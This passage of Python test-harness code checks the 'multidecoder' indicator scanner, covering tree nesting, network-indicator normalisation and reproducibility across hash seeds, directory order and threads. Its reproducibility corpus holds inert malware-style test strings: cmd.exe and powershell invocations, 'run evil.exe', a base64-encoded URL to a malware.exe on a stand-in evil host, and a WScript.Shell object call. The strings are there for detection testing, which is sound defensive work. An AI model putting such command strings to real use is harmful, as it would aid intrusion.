            x = r.random()
            covered = value[max(s, 0):e] if e >= s else b""
            if x < 0.35:
                cv = covered  # identity child
            elif x < 0.45:
                cv = bytes(c ^ 0x20 if 65 <= (c & 0xDF) <= 90 else c for c in covered)  # case changed
            else:
                cv = rand_bytes(r, r.choice([0, 1, 3, 8, len(covered)]))
            t = r.choice(TYPES)
            sub = rand_tree(r, depth + 1, max_depth, cv, in_domain)
            kids.append(_mk(t, cv, r.choice(OBFS), s, e, sub[5]))
    return ("" if depth == 0 else r.choice(TYPES), value, "", 0, n, tuple(kids))


def _mk(t, v, o, s, e, kids):
    return (t, v, o, s, e, kids)


def chain(r, depth):
    """Deep chain: every level substitutes a different value."""
    node = ("string", rand_bytes(r, 3), "o", 0, 2, ())
    for i in range(depth):
        v = rand_bytes(r, 4)
        node = (r.choice(TYPES), v, "", 0 if i < depth - 1 else 0, r.randint(1, 4), (node,))
    return ("", node[1], "", 0, len(node[1]), node[5])


def identity_tree(r, depth=0, value=None):
    """Every value equals the text it covers."""
    if value is None:
        value = rand_bytes(r, r.randint(0, 40))
    n = len(value)
    kids = []
    if depth < 5 and r.random() < 0.8:
        spans = sorted((lambda s: (s, r.randint(s, n)))(r.randint(0, n)) for _ in range(r.randint(1, 4)))
        for s, e in spans:
            sub = identity_tree(r, depth + 1, value[s:e])
            kids.append((r.choice(TYPES), value[s:e], r.choice(OBFS), s, e, sub[5]))
    return ("", value, "", 0, n, tuple(kids))


def build(c, parent=None, linkage="full"):
    """Canonical tuple -> real multidecoder Node tree. linkage: 'full' = parent links set; 'none' = children carry no
    parent reference (trees assembled by hand); 'foreign' = children still point at a node of another tree that holds
    other text (a child list handed from one node to another)."""
    from multidecoder.node import Node

    if linkage == "full" or parent is None:
        link = parent
    elif linkage == "none":
        link = None
    else:
        link = Node("", b"\x00 other text \xff" * 3, "", 0, 0)
    node = Node(c[0], c[1], c[2], c[3], c[4], link)
    node.children = [build(k, node, linkage) for k in c[5]]
    return node
