"""G-wide: synthetic registries with very many decodable fragments in one text.

The top text carries n one-byte decoded hits; each decodes to W3, which decodes to W2, which decodes to W1, which
holds one plain hit.  At depth limit k every fragment costs k-1 nested searches, so one scan performs up to 3n+1
searches: any cap on the number of searches / expansions / nodes per scan (or per scanner) below that shows as
fragments late in the text that are not expanded although their depth allows it, and as results that exist at k
and are gone at k+1 because the earlier fragments used the budget up."""

from __future__ import annotations

W1, W2, W3 = b"w1.", b"w2..", b"w3..."

SIZES = [300, 1500, 6000, 12000, 25000]


def wide_config(n: int, variant: int = 0):
    """Returns (text, tables). variant 1 puts the chain on the last fragment only one level deep (a result that exists
    at small k must survive the others getting deeper)."""
    text = bytes(97 + (i % 26) for i in range(n))
    hits = []
    for i in range(n):
        last = i == n - 1
        value = W1 if (variant == 1 and last) else W3
        hits.append(("frag", value, "d", i, i + 1, ()))
    t0 = {
        text: hits,
        W3: [("three", W2, "d", 0, len(W3), ())],
        W2: [("two", W1, "d", 1, len(W2), ())],
        W1: [("one", W1[:2], "", 0, 2, ())],
    }
    # a second decoder that reports a plain hit on W2 so that document order within a fragment matters as well
    t1 = {W2: [("plain", W2[:1], "", 0, 1, ())]}
    return text, [t0, t1]
