"""C06 - engine property, see vf/props/engine_common.py and vf/mon_engine.py."""

from __future__ import annotations

from vf.props import engine_common as ec

ID = "C06"
SEL = ec.Sel(c06=True)
RULE = ("(A) synthetic table-driven registries, exhaustive at small scope: text = first n<=3 (thorough 4) of 'aBcD', every multiset "
        "of <=3 hits of 9 kinds (plain, case-flipped, decoding to 3 follow-up texts with their own hit tables - one of them "
        "self-reproducing, pre-built children (1 and 2, nested), restating, same-up-to-case) over every interval incl. "
        "zero-width, every partition into <=3 decoders and every decoder order, k in 0..3; (B) random registries beyond that "
        "scope (text<=40, <=14 hits nested on purpose, k in -2..12, empty-value and zero-width hits, self-reproducing "
        "decoder); (C) real hit streams of the default registry recorded by the registry tap and replayed into the model. "
        "Oracle: Multidecoder(decoders=registry).scan(text,k) == independent interval-nesting model, node for node. "
        "'synth-wide' shard: synthetic registries with 300..25000 one-byte decodable fragments in one text, each three decodings deep, k = 1..5 (up to 75001 searches per scan: per-scan / per-scanner budgets); random registries list the same decoder object twice 12 % of the time. "
        "distinct_nontrivial = distinct configurations whose result has >=2 nodes below the root.")
ASSUMPTIONS = ["conditioned on in-bounds hits: streams with a malformed decoder snapshot are excluded and counted",
               "the model resolves 'innermost still-open context' by end offset only, as the engine does (documented reading)"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"c06_synthetic_compared": 100000, "c06_streams_compared": 37, "class:disjoint": 1, "class:nested-in-context": 1,
            "class:nested-in-decoded": 1, "class:partial-overlap": 1, "class:identical-span": 1, "class:restating": 1,
            "class:prebuilt-children": 1, "class:zero-width": 1}


def plan(tier, seed):
    return ec.plan(ID, tier, seed)


def run_shard(spec, ctx):
    ec.run_shard(ID, SEL, spec, ctx)


def replay(case, ctx):
    ec.replay(ID, SEL, case, ctx)


def evidence_extra(merged):
    done = {k: v for k, v in sorted(merged["counters"].items()) if k.startswith("scope_")}
    return {"exhaustive": False, "enumerated_scopes": done,
            "explanation": "scope_textN_hitsH_complete_shards_done = number of shards that finished their slice of the complete "
                           "enumeration of that (text length, hit count) scope (1 for unsharded, 8 for sharded scopes)"}
