"""C10 - reported network indicators are well-formed and normalised."""

from __future__ import annotations

from vf import mon_net, runner, scan
from vf.gens import inputs
from vf.props import common

ID = "C10"
RULE = ("every node of type network.ip / .domain / .email / .url (.ipv6 counted only) in every result of the default registry over "
        "indicator grammars, RFC 3986 URL grammar with escapes in every component, near-miss inputs (octets 256-999, leading zeros, "
        "hex octets, unregistered TLDs, malformed escapes, odd userinfo), mutated test literals, decoded-inside-context inputs "
        "and token soup is judged: IPv4 canonical dotted quad (== covered text when found in free text), domain = name.registered-"
        "TLD (free text: [A-Za-z0-9.-]{7,}), e-mail local@such-a-domain, URL scheme in {http,https,ftp}, non-empty host, value == "
        "independent percent-normalisation of the covered text, escape.percent label iff shorter. Producer (free text vs part of "
        "a URL / path) comes from the registry tap. distinct_nontrivial = distinct inputs with at least one judged node.")
ASSUMPTIONS = ["domains.TOP_LEVEL_DOMAINS is the definition of 'registered TLD'", "nodes with out-of-range spans are C03's business (skipped, counted)"]
EXPECTED_WALL = {"quick": 50, "thorough": 400}
REQUIRED = {"c10_network.ip": 250, "c10_network.domain": 250, "c10_network.email": 62, "c10_network.url": 250,
            "c10_urls_with_escapes": 37, "c10_network.ip@find_ips": 37, "c10_network.domain@find_domains": 37,
            "c10_network.ip@part-of:find_urls": 25, "c10_network.domain@part-of:find_urls": 25,
            "c10_network.ip@part-of:find_windows_path": 5}
GENS = ("url", "ioc", "seedmut", "soup", "ctxdec", "layer", "repeat", "cmd")


def plan(tier, seed):
    quick = tier == "quick"
    secs = 25 if quick else 300
    shards = []
    for g in GENS:
        shards.append({"name": g, "gen": g, "seconds": secs})
    for g in ("url", "ioc", "url", "ioc", "seedmut", "url", "ioc", "soup"):
        shards.append({"name": g + "-" + str(len(shards)), "gen": g, "seconds": secs})
    return shards


_H = None


def judge(data, depth, ctx, label="replay"):
    global _H
    if _H is None:
        _H = scan.Harness(tap=True)
    case = {"data": runner.hx(data), "depth": depth, "label": label}
    ctx.evaluated()
    try:
        root = _H.scan(data, depth)
    except Exception:  # noqa: BLE001 - C01's business
        ctx.count("scan_raised(C01)")
        return
    before = sum(v for k, v in ctx.counters.items() if k in ("c10_network.ip", "c10_network.domain", "c10_network.email", "c10_network.url"))

    def report(key, msg):
        ctx.violation(key, f"{msg}; input {data[:100]!r}", case)

    mon_net.check_c10(root, _H.tap, report, ctx.counters)
    after = sum(v for k, v in ctx.counters.items() if k in ("c10_network.ip", "c10_network.domain", "c10_network.email", "c10_network.url"))
    if after > before:
        ctx.nontrivial(data)
        ctx.sample_light(case, root)


def run_shard(spec, ctx):
    common.add_sampler(ctx, every=31)
    r = runner.rng(ctx.seed, ID, spec["name"])
    for label, data, depth in inputs.generate(spec, r):
        if ctx.expired():
            break
        if not ctx.begin({"data": runner.hx(data), "depth": depth, "label": label}):
            continue
        judge(data, depth, ctx, label)


def replay(case, ctx):
    common.add_sampler(ctx)
    judge(runner.unhx(case["data"]), case.get("depth"), ctx, case.get("label", "replay"))
