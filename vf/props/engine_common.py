"""Shared shard runner of the engine properties C04-C08.

Workloads
  synth-exh : exhaustive synthetic registries (text <= 4 over distinct letters, multisets of n hits of 9 kinds over
              all intervals incl. zero-width, all partitions into decoders and decoder orders) x k in 0..3
  synth-rand: random table-driven registries (<= 40 byte text, <= 14 hits, nested on purpose, pre-built children,
              restating / empty / zero-width hits, optional self-reproducing decoder) x k in -2..12
  real      : default registry under the taps on layered / nested / decoded-inside-context / mutated inputs
Each property selects which monitors decide."""

from __future__ import annotations

import itertools

from vf import mon_engine as me
from vf import runner, scan, tree
from vf.gens import inputs, reggen, wide
from vf.props import common
from vf.refs import engine_model as em

REAL_GENS = ("ctxdec", "nest", "layer", "seedmut", "echo", "expand", "overlap", "bom", "soup", "url", "cmd", "matryoshka")


def plan(pid, tier, seed, exh=True, real=True, rand=True, stride3=6, also=()):
    quick = tier == "quick"
    shards = []
    if exh:
        # exhaustive scopes: (n_text, n_hits); 3-hit scopes are sharded
        nsh = 8
        for i in range(nsh):
            # [n_text, n_hits, stride]: stride 1 = complete enumeration, stride s = every s-th configuration
            shards.append({"name": f"exh3-{i}", "gen": "synth-exh",
                           "scopes": [[1, 3, 1], [2, 3, 1], [3, 3, stride3 if quick else 1]] + ([] if quick else [[4, 3, 3]]),
                           "shard": i, "nshards": nsh})
        shards.append({"name": "exh-small", "gen": "synth-exh",
                       "scopes": [[1, 0, 1], [1, 1, 1], [2, 1, 1], [3, 1, 1], [4, 1, 1], [1, 2, 1], [2, 2, 1], [3, 2, 1], [4, 2, 1]],
                       "shard": 0, "nshards": 1})
    if True:
        # very many decodable fragments in one text: per-scan / per-scanner budgets
        shards.append({"name": "wide", "gen": "synth-wide", "sizes": wide.SIZES[: (4 if quick else len(wide.SIZES))]})
    secs = 22 if quick else 240
    if rand:
        for i in range(3 if quick else 5):
            shards.append({"name": f"rand{i}", "gen": "synth-rand", "seconds": secs})
    if real:
        chosen = list(REAL_GENS[: (8 if quick else len(REAL_GENS))])
        for g in chosen + [g for g in also if g not in chosen]:
            shards.append({"name": g, "gen": g, "seconds": secs})
    return shards


class Sel:
    """Which monitors decide for this property."""

    def __init__(self, c04=False, c05=False, c06=False, c07=False, c08=False):
        self.c04, self.c05, self.c06, self.c07, self.c08 = c04, c05, c06, c07, c08


def _reporter(ctx, case, desc):
    def report(key, msg):
        ctx.violation(key, f"{msg}; {desc}", case)
    return report


def judge_synth(text, k, tables, sel, ctx, case, r=None, tail=0):
    ctx.evaluated()
    need_tap = sel.c04 or sel.c05 or sel.c07 or sel.c08
    h = scan.Harness(registry=reggen.engine_registry(tables), tap=need_tap)
    desc = f"synthetic registry on text {text!r} k={k}"
    report = _reporter(ctx, case, desc)
    raisers = any(hs == reggen.RAISE for tb in tables for hs in tb.values())
    try:
        root = h.scan(text, k)
    except reggen.SyntheticDecoderError:
        ctx.count("synthetic_decoder_failure_propagated(not judged)")
        return
    except Exception as e:  # noqa: BLE001
        ctx.violation("engine:" + scan.exc_key(e), f"scan raised {scan.exc_text(e)}; {desc}", case)
        return
    counts = ctx.counters
    if raisers:
        ctx.count("scans_of_registries_with_a_failing_decoder_that_returned")
    wf = all(reggen.spec_in_bounds(hh, len(t)) for tb in tables for t, hs in tb.items() if hs != reggen.RAISE for hh in hs)
    if not wf:
        ctx.count("synthetic_not_in_bounds(skipped)")
        return
    if sel.c06:
        try:
            want = em.scan(text, k, reggen.model_registry(tables))
        except reggen.SyntheticDecoderError:
            # the reference procedure reaches the failing decoder, the engine returned a tree: it went on after a failure
            report("model:decoder-failure-swallowed", "a decoder raised on a value the reference procedure searches, but the scan returned a tree")
            return
        got = tree.canon(root)
        ctx.count("c06_synthetic_compared")
        if case.get("kind") != "wide":
            _classify(tables, text, ctx)
        if want != got:
            report("model:synthetic-mismatch", "engine tree differs from the interval-nesting model: "
                   + (tree.first_diff(got, want) or "?"))
        if len(got[5]) > 0 and (len(got[5]) > 1 or got[5][0][5]):
            ctx.nontrivial(repr((case.get("picks") or case.get("tables"), case.get("assign"), case.get("order"), text, k)))
    if sel.c04:
        me.check_c04(root, h.tap, report, counts)
    if sel.c05:
        me.check_c05(root, h.tap, report, counts)
    if sel.c07:
        me.check_c07_bound(root, k, h.tap, report, counts)
        h2 = scan.Harness(registry=reggen.engine_registry(tables), tap=True)
        try:
            root2 = h2.scan(text, k + 1)
        except reggen.SyntheticDecoderError:
            ctx.count("synthetic_decoder_failure_propagated(not judged)")
            return
        me.check_c07_monotone(root, k, root2, h2.tap, report, counts)
    if sel.c08:
        me.check_c08(root, h.tap, report, counts, r, registry=reggen.engine_registry(tables), tail=tail)
    if not sel.c06 and root.children:
        ctx.nontrivial(repr((case.get("picks") or case.get("tables"), case.get("assign"), case.get("order"), text, k)))


def _classify(tables, text, ctx):
    """Interaction classes present among the hits on the top text (evidence: every class must be seen)."""
    hits = [h for tb in tables if tb.get(text, []) != reggen.RAISE for h in tb.get(text, []) if h[1]]
    for a, b in itertools.combinations(hits, 2):
        (s1, e1), (s2, e2) = (a[3], a[4]), (b[3], b[4])
        if (s1, e1) == (s2, e2):
            ctx.count("class:identical-span")
        elif e1 <= s2 or e2 <= s1:
            ctx.count("class:disjoint")
        elif (s1 <= s2 and e2 <= e1) or (s2 <= s1 and e1 <= e2):
            outer = a if (s1 <= s2 and e2 <= e1) else b
            dec = outer[1].lower() != text[outer[3]:outer[4]].lower() or outer[5]
            ctx.count("class:nested-in-decoded" if dec else "class:nested-in-context")
        else:
            ctx.count("class:partial-overlap")
    for h in hits:
        if h[5]:
            ctx.count("class:prebuilt-children")
        if h[3] == h[4]:
            ctx.count("class:zero-width")
        if h[0] == "" and h[1] == text:
            ctx.count("class:restating")


_REAL = None


def real_harness(internal=False):
    global _REAL
    if _REAL is None:
        _REAL = scan.Harness(tap=True)
        if internal:
            from vf import taps
            n = taps.install_internal_tap(_REAL.tap.originals)
            _REAL.internal_names = n
    return _REAL


def judge_real(data, k, sel, ctx, case, r=None, label=""):
    ctx.evaluated()
    h = real_harness(internal=sel.c07)
    if sel.c07:
        ctx.counters["decoder_functions_wrapped_at_module_level"] = getattr(h, "internal_names", 0)
    from multidecoder.multidecoder import DEFAULT_DEPTH_LIMIT

    kk = DEFAULT_DEPTH_LIMIT if k is None else k
    desc = f"default registry on {data[:100]!r} k={kk}"
    report = _reporter(ctx, case, desc)
    try:
        root = h.scan(data, kk)
    except Exception:  # noqa: BLE001 - C01's business
        ctx.count("scan_raised(C01)")
        return
    counts = ctx.counters
    ctx.count("real_scans")
    if sel.c04:
        me.check_c04(root, h.tap, report, counts)
    if sel.c05:
        me.check_c05(root, h.tap, report, counts)
    if sel.c06:
        me.check_c06_stream(root, data, kk, h.tap, report, counts)
    if sel.c07:
        me.check_c07_bound(root, kk, h.tap, report, counts)
        me.check_c07_internal(kk, h.tap, report, counts)
    if sel.c08:
        me.check_c08(root, h.tap, report, counts, r)
    if sel.c07 and -3 <= kk <= 12:
        # monotonicity pair: keep the first result, scan again with k+1 on a second tapped scanner
        global _REAL2
        if _REAL2 is None:
            _REAL2 = scan.Harness(tap=True)
        if me.stream_well_formed(h.tap):
            root2 = _REAL2.scan(data, kk + 1)
            me.check_c07_monotone(root, kk, root2, _REAL2.tap, report, counts)
    if len(root.children) >= 1 and any(c.children for c in root.children):
        ctx.nontrivial(data + b"/%d" % kk)
    ctx.sample_light(case, root)


_REAL2 = None


def run_shard(pid, sel, spec, ctx):
    common.add_sampler(ctx)
    r = runner.rng(ctx.seed, pid, spec["name"])
    gen = spec["gen"]
    if gen == "synth-exh":
        idx = 0
        for n_text, n_hits, stride in spec["scopes"]:
            batch = 0
            mod = spec["nshards"] * stride
            pick = (spec["shard"] + (ctx.seed % stride) * spec["nshards"]) % mod
            for conf in reggen.enumerate_configs(n_text, n_hits):
                idx += 1
                if idx % mod != pick:
                    continue
                text, picks, assignment, order = conf
                tables = reggen.config_from(text, picks, assignment, order)
                conf_case = {"kind": "conf", "n": n_text, "picks": [list(p) for p in picks], "assign": list(assignment),
                             "order": list(order)}
                if not ctx.begin(conf_case):
                    continue
                for k in (0, 1, 2, 3):
                    case = dict(conf_case, k=k)
                    batch += 1
                    judge_synth(text, k, tables, sel, ctx, case, r)
                    if batch % 5003 == 1:
                        ctx.sample({"text": repr(text), "k": k, "picks": [list(p) for p in picks], "decoder_of_pick": list(assignment),
                                    "decoder_order": list(order)})
            ctx.count(f"scope_text{n_text}_hits{n_hits}_" + ("complete" if stride == 1 else f"every{stride}th") + "_shards_done")
        return
    if gen == "synth-wide":
        for n in spec["sizes"]:
            for variant in (0, 1):
                text, tables = wide.wide_config(n, variant)
                for k in (1, 2, 3, 4, 5):
                    case = {"kind": "wide", "n": n, "variant": variant, "k": k}
                    if not ctx.begin(case):
                        continue
                    ctx.count("wide_configs_scanned")
                    ctx.count("wide_max_fragments", 0)
                    ctx.counters["wide_max_fragments"] = max(ctx.counters.get("wide_max_fragments", 0), n)
                    judge_synth(text, k, tables, sel, ctx, case, r, tail=8)
            ctx.sample({"wide_text_fragments": n, "depth_limits": [1, 2, 3, 4, 5], "searches_at_k5": 3 * n + 1})
        return
    if gen == "synth-rand":
        i = 0
        while not ctx.expired():
            i += 1
            if i % 4 == 0:
                # always decodable again: linear chains, deep limits
                text, tables = reggen.random_config(r, max_text=12, max_hits=2, n_texts=3, self_repro=True)
                k = r.choice([1, 2, 3, 5, 8, 12])
            elif i % 10 == 5:
                text, tables = reggen.random_config(r, max_text=320, max_hits=6)
                k = r.choice([1, 2, 3])
            else:
                text, tables = reggen.random_config(r)
                k = r.choice([-2, 0, 1, 1, 2, 2, 3, 3, 4, 5, 6])
            case = {"kind": "synth", "text": runner.hx(text), "k": k, "tables": reggen.encode_tables(tables)}
            if not ctx.begin(case):
                continue
            judge_synth(text, k, tables, sel, ctx, case, r)
            if i % 211 == 1:
                ctx.sample({"text": repr(text), "k": k, "decoders": len(tables),
                            "hits_on_text": sum(len(t.get(text, [])) for t in tables if t.get(text, []) != reggen.RAISE)})
        return
    for label, data, depth in inputs.generate(spec, r):
        if ctx.expired():
            break
        k = depth
        if k is None and r.random() < 0.35:
            k = r.choice([0, 1, 2, 3, 4, 5])
        if k is not None and not (-5 <= k <= 12):
            k = None
        case = {"kind": "real", "data": runner.hx(data), "k": k, "label": label}
        if not ctx.begin(case):
            continue
        judge_real(data, k, sel, ctx, case, r, label)
        if r.random() < 0.2:
            # the same text again on the same scanner: results must not depend on what was scanned before
            ctx.count("rescans_of_same_input")
            judge_real(data, k, sel, ctx, dict(case, rescan=True), r, label)


def replay(pid, sel, case, ctx):
    common.add_sampler(ctx)
    r = runner.rng(ctx.seed, pid, "replay")
    if case.get("kind") == "conf":
        text = reggen.TEXT[: case["n"]]
        tables = reggen.config_from(text, [tuple(p) for p in case["picks"]], tuple(case["assign"]), tuple(case["order"]))
        for k in ([case["k"]] if "k" in case else (0, 1, 2, 3)):
            judge_synth(text, k, tables, sel, ctx, dict(case, k=k), r)
    elif case.get("kind") == "wide":
        text, tables = wide.wide_config(case["n"], case["variant"])
        judge_synth(text, case["k"], tables, sel, ctx, case, r, tail=8)
    elif case.get("kind") == "synth":
        judge_synth(runner.unhx(case["text"]), case["k"], reggen.decode_tables(case["tables"]), sel, ctx, case, r)
    else:
        judge_real(runner.unhx(case["data"]), case.get("k"), sel, ctx, case, r)
