"""C08 - engine property, see vf/props/engine_common.py and vf/mon_engine.py."""

from __future__ import annotations

from vf.props import engine_common as ec

ID = "C08"
SEL = ec.Sel(c08=True)
RULE = ("for every decoded node D of every result that carried no decoder-supplied children (<=20 per tree, chosen by seed), with r "
        "= the depth_limit its own activation received: children(D) must equal, structurally, the children of "
        "Multidecoder(same registry, untapped).scan_node(Node(D.type, D.value), r). Workloads: default registry on layered "
        "stacks with indicator payloads, decoded-inside-context, nested, URL inputs with k in 0..10; random synthetic "
        "registries. 'synth-wide' shard: synthetic registries with 300..25000 one-byte decodable fragments in one text, each three decodings deep, k = 1..5 (up to 75001 searches per scan: per-scan / per-scanner budgets); random registries list the same decoder object twice 12 % of the time. "
        "distinct_nontrivial = distinct cases with a non-empty result.")
ASSUMPTIONS = ["the comparison scan uses the same decoder functions (unwrapped) in the same order"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"c08_decoded_nodes_compared": 625, "c08_compared_with_children": 125, "c08_inside_context": 12, "real_scans": 62}


def plan(tier, seed):
    return ec.plan(ID, tier, seed, exh=False)


def run_shard(spec, ctx):
    ec.run_shard(ID, SEL, spec, ctx)


def replay(case, ctx):
    ec.replay(ID, SEL, case, ctx)
