"""C04 - engine property, see vf/props/engine_common.py and vf/mon_engine.py."""

from __future__ import annotations

from vf.props import engine_common as ec

ID = "C04"
SEL = ec.Sel(c04=True)
RULE = ("every hit (a,b) returned by a registry entry on a text T is compared, after the scan, with the same Node object in the "
        "tree: sum of the starts of its enclosing nodes below the searched node + own start == a, span length == b-a, "
        "original.lower() == T[a:b].lower(), all enclosing nodes are undecoded contexts, type/value/obfuscation unchanged. "
        "Workloads: default registry on nested-indicator (k=1..6 properly nested raw indicators at positive offsets), "
        "decoded-inside-context, layered, URL, mutated and soup inputs; synthetic registries (complete small scopes + random "
        "with nesting up to 8). 'synth-wide' shard: synthetic registries with 300..25000 one-byte decodable fragments in one text, each three decodings deep, k = 1..5 (up to 75001 searches per scan: per-scan / per-scanner budgets); random registries list the same decoder object twice 12 % of the time. "
        "distinct_nontrivial = distinct cases with a non-empty result.")
ASSUMPTIONS = ["hits absent from the tree are only counted here (C05/C06 judge absences)",
               "hits whose decoder snapshot is out of range are skipped and counted (C03's business)"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"c04_kept_hits": 6250, "c04_kept_depth>=2_positive_offsets": 25, "c04_decoded_inside_context": 25, "real_scans": 62}


def plan(tier, seed):
    return ec.plan(ID, tier, seed, stride3=12)


def run_shard(spec, ctx):
    ec.run_shard(ID, SEL, spec, ctx)


def replay(case, ctx):
    ec.replay(ID, SEL, case, ctx)
