"""C09 - results are reproducible: a function of input, depth and configuration only."""

from __future__ import annotations

import hashlib
import json
import os
import pathlib
import shutil
import subprocess
import tempfile
import threading
import time

from vf import c09_worker, env, runner, tree
from vf.gens import base, codecgen, inputs
from vf.props import c17 as kwgen
from vf.props import c20 as cli

ID = "C09"
RULE = ("observation = sha1 of the canonical tree (or CLI stdout). Dimensions, each with its own counter: (1) history: same scanner "
        "repeated x3, fresh scanner, same scanner after 50 other scans incl. the same inputs at other depth limits, and the FIRST "
        "returned tree re-canonicalised afterwards (must not have changed), and values met inside earlier results scanned on their own "
        "by the re-used scanner versus a fresh one; (2) hash seeds: N subprocesses with distinct "
        "PYTHONHASHSEED scan a corpus built from tie situations (every case-variant keyword pair inside one shipped keyword file, "
        "keywords listed in >=2 files, equal-span results of decoders from different modules) under 4 registry configurations "
        "(default, include lists, exclude list); (3) directory order: os.scandir/os.listdir return seeded random permutations "
        "while registries are built (shipped directory and generated directories with equal file names); (4) threads: 8 threads "
        "share one scanner, switch interval 1e-6 and yields injected in the registry wrapper, every result compared with the "
        "single-threaded digest, thread alternations counted; (5) CLI default/--json/stdin under two hash seeds. "
        "(6) cold start: a never-used scanner is hit by six threads released from a barrier and compared with the warmed-up scanner's tree. "
        "distinct_nontrivial = distinct (dimension, input) pairs whose tree is non-empty.")
ASSUMPTIONS = ["CPython gives no schedule control: the thread dimension claims only the alternations observed",
               "no data-race detector applies (pure Python, no native code of the project)"]
EXPECTED_WALL = {"quick": 60, "thorough": 500}
REQUIRED = {"history_comparisons": 250, "hashseed_processes": 6, "hashseed_comparisons": 2000, "tie_inputs": 30, "dirorder_processes": 6,
            "thread_results_compared": 125, "thread_alternations": 12, "cli_comparisons": 5, "earlier_trees_rechecked": 62}


def plan(tier, seed):
    quick = tier == "quick"
    secs = 25 if quick else 300
    shards = [{"name": f"history{i}", "gen": "history", "seconds": secs} for i in range(4)]
    shards.append({"name": "hashseeds", "gen": "hashseeds", "n": 8 if quick else 32, "corpus": 300 if quick else 2000})
    shards.append({"name": "dirorder", "gen": "dirorder", "n": 8 if quick else 48, "corpus": 150 if quick else 800})
    shards.append({"name": "dirorder-custom", "gen": "dirorder-custom", "n": 6 if quick else 30})
    shards += [{"name": f"threads{i}", "gen": "threads", "seconds": secs} for i in range(3)]
    shards.append({"name": "cli", "gen": "cli", "seconds": secs})
    return shards


def dg(root) -> str:
    return c09_worker.digest_tree(root)


def tie_corpus(r, limit):
    """Inputs built from tie situations of the shipped configuration."""
    import multidecoder

    kwdir = pathlib.Path(os.path.dirname(multidecoder.__file__)) / "keywords"
    by_file = {}
    for p in sorted(kwdir.rglob("*")):
        if p.is_file():
            by_file[p.name] = [w for w in p.read_bytes().splitlines() if w]
    out = []
    files_of = {}
    for name, words in by_file.items():
        groups = {}
        for w in words:
            groups.setdefault(w.lower(), []).append(w)
            files_of.setdefault(w.lower(), set()).add(name)
        for low, ws in groups.items():
            if len(set(ws)) >= 2:
                ws = sorted(set(ws))
                out.append(b"call " + ws[0] + b"(x) and " + ws[1] + b" then " + low)
    multi = sorted(w for w, fs in files_of.items() if len(fs) >= 2)
    r.shuffle(multi)
    for w in multi[:60]:
        out.append(b"use " + w + b" here; " + w.upper())
    ties = len(out)
    out += [b"cmd.exe", b"start C:\\Windows\\System32\\cmd.exe", b"powershell.exe -foo", b"run evil.exe /c x", b"x.dll and \\\\host\\share\\x.dll",
            b"http://example.com/ZXZpbC5leGFtcGxlLmNvbS9tYWx3YXJlLmV4ZQ==", b"user@example.com example.com", b"CreateObject(\"WScript.Shell\")"]
    seeds = base.harvest_seeds()
    r.shuffle(seeds)
    for s in seeds:
        if len(out) >= limit:
            break
        if len(s) <= 4000:
            out.append(s)
    return out[:max(limit, ties + 8)], ties


def spawn_worker(corpus_path, out_path, hashseed, fs_seed="-", kwdir=""):
    e = dict(os.environ, PYTHONHASHSEED=str(hashseed), PYTHONDONTWRITEBYTECODE="1")
    return subprocess.Popen([env.PYTHON, "-m", "vf.c09_worker", corpus_path, out_path, str(fs_seed), kwdir], cwd=env.VERIF_DIR, env=e,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)


def compare_runs(results, corpus, ctx, dim, counter):
    """results: list of (tag, {config: [digests]})."""
    ref_tag, ref = results[0]
    for tag, res in results[1:]:
        for conf, digs in res.items():
            for i, (a, b) in enumerate(zip(ref.get(conf, []), digs)):
                ctx.count(counter)
                if a != b:
                    case = {"kind": dim, "data": runner.hx(corpus[i]), "config": conf, "a": ref_tag, "b": tag}
                    ctx.violation(f"repro:{dim}:{'default' if conf == 'default' else 'configured'}",
                                  f"tree of {corpus[i][:80]!r} under registry configuration {conf!r} differs between {ref_tag} and {tag}", case)


def run_shard(spec, ctx):
    r = runner.rng(ctx.seed, ID, spec["name"])
    gen = spec["gen"]
    work = tempfile.mkdtemp(prefix="vf_c09_", dir=env.scratch_root())
    try:
        if gen == "history":
            run_history(ctx, r)
        elif gen in ("hashseeds", "dirorder"):
            corpus, ties = tie_corpus(r, spec["corpus"])
            ctx.count("tie_inputs", ties)
            cpath = os.path.join(work, "corpus.json")
            with open(cpath, "w") as f:
                json.dump([c.hex() for c in corpus], f)
            case = {"kind": gen, "n": spec["n"]}
            ctx.begin(case)
            procs = []
            for i in range(spec["n"]):
                if gen == "hashseeds":
                    hs, fs = (i * 7919 + ctx.seed) % 4294967295 if i else 0, "-"
                else:
                    hs, fs = 0, (f"{ctx.seed}/{i}" if i else "-")
                op = os.path.join(work, f"out{i}.json")
                procs.append((f"{'PYTHONHASHSEED' if gen == 'hashseeds' else 'fs-order'}={hs if gen == 'hashseeds' else fs}", op,
                              spawn_worker(cpath, op, hs, fs)))
                if len(procs) % 8 == 0:
                    for _, _, p in procs[-8:]:
                        p.wait()
            results = []
            for tag, op, p in procs:
                _, err = p.communicate()
                if p.returncode != 0:
                    ctx.violation(f"repro:{gen}:worker-failed", f"scanning subprocess {tag} failed: {err[-300:]!r}", case)
                    continue
                with open(op) as f:
                    results.append((tag, json.load(f)["digests"]))
                ctx.count("hashseed_processes" if gen == "hashseeds" else "dirorder_processes")
            ctx.evaluated(len(results) * len(corpus) * len(c09_worker.CONFIGS))
            if results:
                compare_runs(results, corpus, ctx, "hashseed" if gen == "hashseeds" else "dirorder",
                             "hashseed_comparisons" if gen == "hashseeds" else "dirorder_comparisons")
            for c in corpus[:ties]:
                ctx.nontrivial(gen.encode() + c)
            ctx.sample({"dimension": gen, "processes": [t for t, _ in results][:6], "corpus_size": len(corpus), "tie_inputs": ties,
                        "example_tie_input": repr(corpus[0][:80])})
        elif gen == "dirorder-custom":
            for j in range(spec["n"]):
                d = os.path.join(work, f"kw{j}")
                files = kwgen.make_kw_dir(r, d)
                for sub, words in (("windows", [b"shared", b"Shared", b"cmdword"]), ("linux", [b"shared", b"bashword"]), ("a/b", [b"SHARED"])):
                    os.makedirs(os.path.join(d, sub), exist_ok=True)
                    with open(os.path.join(d, sub, "command"), "wb") as f:
                        f.write(b"\n".join(words) + b"\n")
                for nm, ws in (("Injection", [b"shared", b"inject"]), ("injection", [b"shared", b"Inject"])):
                    with open(os.path.join(d, nm), "wb") as f:
                        f.write(b"\n".join(ws) + b"\n")
                words = [k for _, ks, _ in files for k in ks] + [b"shared", b"cmdword", b"bashword", b"inject"]
                corpus = [b" ".join(r.choice(words) for _ in range(6)) for _ in range(30)]
